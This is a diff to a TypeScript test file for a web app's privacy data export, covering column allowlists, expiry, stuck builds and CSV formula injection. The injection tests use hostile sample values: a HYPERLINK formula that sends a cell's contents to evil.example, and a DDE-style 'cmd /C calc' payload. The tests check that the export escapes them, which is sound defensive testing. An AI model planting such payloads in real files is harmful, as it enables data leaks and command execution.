@@ -1,16 +1,21 @@
-import { eq, sql } from "drizzle-orm";
+import { eq, getTableColumns, sql } from "drizzle-orm";
+import { getTableConfig, pgTable, text, timestamp, uuid } from "drizzle-orm/pg-core";
 import { strFromU8, unzipSync } from "fflate";
 import { describe, expect, it } from "vitest";
 import { GET as downloadGET } from "~/app/api/privacy/exports/[id]/route";
-import { getDb } from "~/server/db/client";
-import { dataExports, devices, users } from "~/server/db/schema";
-import { userOwnedTableNames } from "~/server/db/tables";
+import { getDb, selectRows } from "~/server/db/client";
+import { dataExports, devices, integrations, integrationWebhooks, users } from "~/server/db/schema";
+import { databaseColumnName, userOwnedTableNames } from "~/server/db/tables";
 import { getJobRunner } from "~/server/jobs/send";
+import { buildExport, EXPORT_BUILD_DEADLINE_MS, EXPORT_POLICY, exportedColumns, renderExport, unclassifiedColumns } from "~/server/privacy/export";
 import { getLocalPublisher, type RealtimeMessage } from "~/server/realtime/publisher";
-import { sessionCookieFor } from "../support/callers";
+import { anonymousCaller, callerFor, sessionCookieFor, signedUpUser, TEST_PASSWORD, uniqueEmail } from "../support/callers";
 import { fullyUsedAccount } from "../support/privacy";
 
-const NEVER_EXPORTED = ["integration_tokens", "data_exports"];
+const tableName = (entry: (typeof EXPORT_POLICY)[number]) => getTableConfig(entry.table).name;
+const NEVER_EXPORTED = EXPORT_POLICY.filter((entry) => entry.kind === "withheld").map(tableName);
+/** Each exported table's columns, as the database names them. */
+const EXPORTED_COLUMNS = Object.fromEntries(EXPORT_POLICY.flatMap((entry) => (entry.kind === "exported" ? [[tableName(entry), Object.keys(exportedColumns(entry))]] : [])));
 
 async function exportOf(account: Awaited<ReturnType<typeof fullyUsedAccount>>, format: "json" | "csv") {
   const heard: RealtimeMessage[] = [];
@@ -46,7 +51,10 @@ describe("data export", () => {
     const document = JSON.parse(text) as { tables: Record<string, Array<Record<string, unknown>>> };
 
     const expectedTables = [...userOwnedTableNames().filter((table) => !NEVER_EXPORTED.includes(table)), "users", "login_attempts"].sort();
+    expect(NEVER_EXPORTED.sort()).toEqual(["anonymous_aggregates", "data_exports", "integration_tokens", "webhook_deliveries"]);
     expect(Object.keys(document.tables).sort()).toEqual(expectedTables);
+    // Each row carries exactly the allowlisted columns: nothing the policy does not name.
+    for (const [table, rows] of Object.entries(document.tables)) for (const row of rows) expect(Object.keys(row), table).toEqual(EXPORTED_COLUMNS[table]);
     for (const table of userOwnedTableNames().filter((name) => !NEVER_EXPORTED.includes(name) && name !== "data_exports")) {
       expect(document.tables[table]!.length, table).toBe(await countRows(table, account.user.id));
       expect(document.tables[table]!.every((row) => row.user_id === account.user.id), table).toBe(true);
@@ -86,6 +94,148 @@ describe("data export", () => {
     const expired = await download(owner, `/api/privacy/exports/${exportId}`);
     expect(expired.status).toBe(410);
     expect(await expired.json()).toEqual({ error: "This export link expired: ask for a new export on the Privacy page." });
-    expect((await owner.caller.privacy.exports())[0]!.downloadUrl).toBeNull();
+    expect((await owner.caller.privacy.exports())[0]).toMatchObject({ id: exportId, status: "expired", downloadUrl: null });
+  });
+});
+
+describe("an export's content ends with its link", () => {
+  async function expiredExport(label: string) {
+    const account = await fullyUsedAccount(label);
+    const { exportId } = await exportOf(account, "csv");
+    const db = await getDb();
+    await db.update(dataExports).set({ expiresAt: new Date(Date.now() - 1000) }).where(eq(dataExports.id, exportId));
+    return { account, exportId, db };
+  }
+  const stored = async (exportId: string) => (await (await getDb()).select().from(dataExports).where(eq(dataExports.id, exportId)))[0]!;
+  const deletions = async (account: Awaited<ReturnType<typeof fullyUsedAccount>>) => (await account.caller.privacy.processingLog({ activity: "deletion" })).items;
+
+  it("listing an expired export deletes its content (not just its link) and logs the deletion, once", async () => {
+    const { account, exportId } = await expiredExport("export-expire-list");
+    expect((await stored(exportId)).content).not.toBeNull(); // still there: nothing has looked since the link ended
+    const [listed] = await account.caller.privacy.exports();
+    expect(listed).toMatchObject({ id: exportId, status: "expired", downloadUrl: null, bytes: expect.any(Number) });
+    expect(await stored(exportId)).toMatchObject({ status: "expired", content: null });
+    await account.caller.privacy.exports(); // a second look deletes and logs nothing more
+    expect(await deletions(account)).toEqual([
+      expect.objectContaining({ activity: "deletion", purpose: "Delete your data export once its download link expired", details: { export: exportId, format: "csv" } }),
+    ]);
+    expect((await download(account, `/api/privacy/exports/${exportId}`)).status).toBe(410);
+  });
+
+  it("a download after the link ended deletes the content too", async () => {
+    const { account, exportId } = await expiredExport("export-expire-download");
+    expect((await download(account, `/api/privacy/exports/${exportId}`)).status).toBe(410);
+    expect(await stored(exportId)).toMatchObject({ status: "expired", content: null });
+    expect(await deletions(account)).toHaveLength(1);
+  });
+});
+
+describe("an export stuck in building", () => {
+  const building = async (userId: string, startedMsAgo: number) => {
+    const [row] = await (await getDb())
+      .insert(dataExports)
+      .values({ userId, format: "json", createdAt: new Date(Date.now() - startedMsAgo) })
+      .returning({ id: dataExports.id });
+    return row!.id;
+  };
+
+  it("fails at its deadline (so the page stops polling), can be asked for again, and a late build does not revive it", async () => {
+    const { user, caller } = await signedUpUser("export-stuck");
+    const crashed = await building(user.id, EXPORT_BUILD_DEADLINE_MS + 60_000);
+    const slow = await building(user.id, EXPORT_BUILD_DEADLINE_MS - 60_000);
+    const listed = await caller.privacy.exports();
+    expect(listed.find((entry) => entry.id === crashed)).toMatchObject({ status: "failed", error: "The export did not finish within 15 minutes: try again.", downloadUrl: null });
+    expect(listed.find((entry) => entry.id === slow)).toMatchObject({ status: "building" });
+    expect((await download({ user }, `/api/privacy/exports/${crashed}`)).status).toBe(409);
+
+    // The crashed build's job comes back late: it stores nothing and announces nothing.
+    const db = await getDb();
+    expect(await buildExport(db, user.id, crashed)).toBeNull();
+    expect((await db.select().from(dataExports).where(eq(dataExports.id, crashed)))[0]).toMatchObject({ status: "failed", content: null });
+
+    // Trying again is a new export, built as usual.
+    const { exportId } = await caller.privacy.export({ format: "json" });
+    await getJobRunner().idle();
+    expect((await caller.privacy.exports()).find((entry) => entry.id === exportId)).toMatchObject({ status: "ready", downloadUrl: `/api/privacy/exports/${exportId}` });
+  });
+});
+
+describe("what an export may contain: an allowlist", () => {
+  it("names every column of every table in the schema, as exported or withheld", () => {
+    expect(unclassifiedColumns()).toEqual([]);
+  });
+
+  it("and of every table the database holds (a column added by a migration alone is caught too)", async () => {
+    const columns = await selectRows<{ table_name: string; column_name: string }>(
+      await getDb(),
+      sql`select table_name, column_name from information_schema.columns where table_schema = current_schema() order by table_name, ordinal_position`,
+    );
+    const policy = new Map(EXPORT_POLICY.map((entry) => [tableName(entry), entry]));
+    const named = (entry: (typeof EXPORT_POLICY)[number] & { kind: "exported" }) =>
+      Object.entries(getTableColumns(entry.table))
+        .filter(([key]) => entry.exported.includes(key) || Object.hasOwn(entry.withheld, key))
+        .map(([, column]) => databaseColumnName(column.name));
+    const unnamed = columns
+      .filter(({ table_name: table, column_name: column }) => {
+        const entry = policy.get(table);
+        return !entry || (entry.kind === "exported" && !named(entry).includes(column));
+      })
+      .map(({ table_name: table, column_name: column }) => `${table}.${column}`);
+    expect(columns.length).toBeGreaterThan(50);
+    expect(unnamed).toEqual([]);
+  });
+
+  it("reports a column that neither list names, and a table it does not know", () => {
+    // The devices table as it would be with a new secret column nobody classified.
+    const devicesLater = pgTable("devices", {
+      ...Object.fromEntries(Object.keys(getTableColumns(devices)).map((key) => [key, text()])),
+      recoveryCode: text(),
+    });
+    const apiKeys = pgTable("api_keys", { id: uuid().primaryKey(), userId: uuid().notNull(), secret: text().notNull(), createdAt: timestamp() });
+    expect(unclassifiedColumns([devicesLater, apiKeys])).toEqual(["devices.recoveryCode", "api_keys (table)"]);
+  });
+});
+
+describe("CSV formula injection (OWASP)", () => {
+  const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open project")';
+
+  it("a GitLab project and a name that a spreadsheet would run are text in the real CSV export", async () => {
+    const email = uniqueEmail("export-formula");
+    const user = await (await anonymousCaller()).auth.register({ email, password: TEST_PASSWORD, name: "@SUM(1+1)*cmd|' /C calc'!A0" });
+    const caller = await callerFor(user);
+    const db = await getDb();
+    const [integration] = await db.insert(integrations).values({ userId: user.id, provider: "gitlab", accountName: "+1+1" }).returning();
+    await db.insert(integrationWebhooks).values({ integrationId: integration!.id, userId: user.id, provider: "gitlab", repository: HYPERLINK, hookId: `${Date.now()}` });
+
+    const { exportId } = await caller.privacy.export({ format: "csv" });
+    await getJobRunner().idle();
+    const response = await download({ user }, `/api/privacy/exports/${exportId}`);
+    expect(response.status).toBe(200);
+    const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
+    const webhooks = strFromU8(files["integration_webhooks.csv"]!);
+    expect(webhooks).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Open project"")",`);
+    expect(webhooks).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
+    expect(strFromU8(files["users.csv"]!)).toContain(`,"'@SUM(1+1)*cmd|' /C calc'!A0",`);
+    expect(strFromU8(files["integrations.csv"]!)).toContain(`,"'+1+1",`);
+  });
+
+  it("escapes every cell that starts with =, +, -, @, tab or carriage return, and nothing else", () => {
+    const values = ["=1+1", "+1", "-1", "@A1", "\tA1", "\rA1", "plain", "a,b", 'say "hi"', "a-b"];
+    const rendered = renderExport("csv", { cells: values.map((value) => ({ value })).concat([{ value: -5 as unknown as string }]) });
+    const csv = strFromU8(unzipSync(Buffer.from(rendered.content, "base64"))["cells.csv"]!);
+    expect(csv.split("\r\n").slice(0, -1)).toEqual([
+      "value",
+      `"'=1+1"`,
+      `"'+1"`,
+      `"'-1"`,
+      `"'@A1"`,
+      `"'\tA1"`,
+      "\"'\rA1\"",
+      "plain",
+      `"a,b"`,
+      `"say ""hi"""`,
+      "a-b",
+      "-5", // a number is never a formula
+    ]);
   });
 });
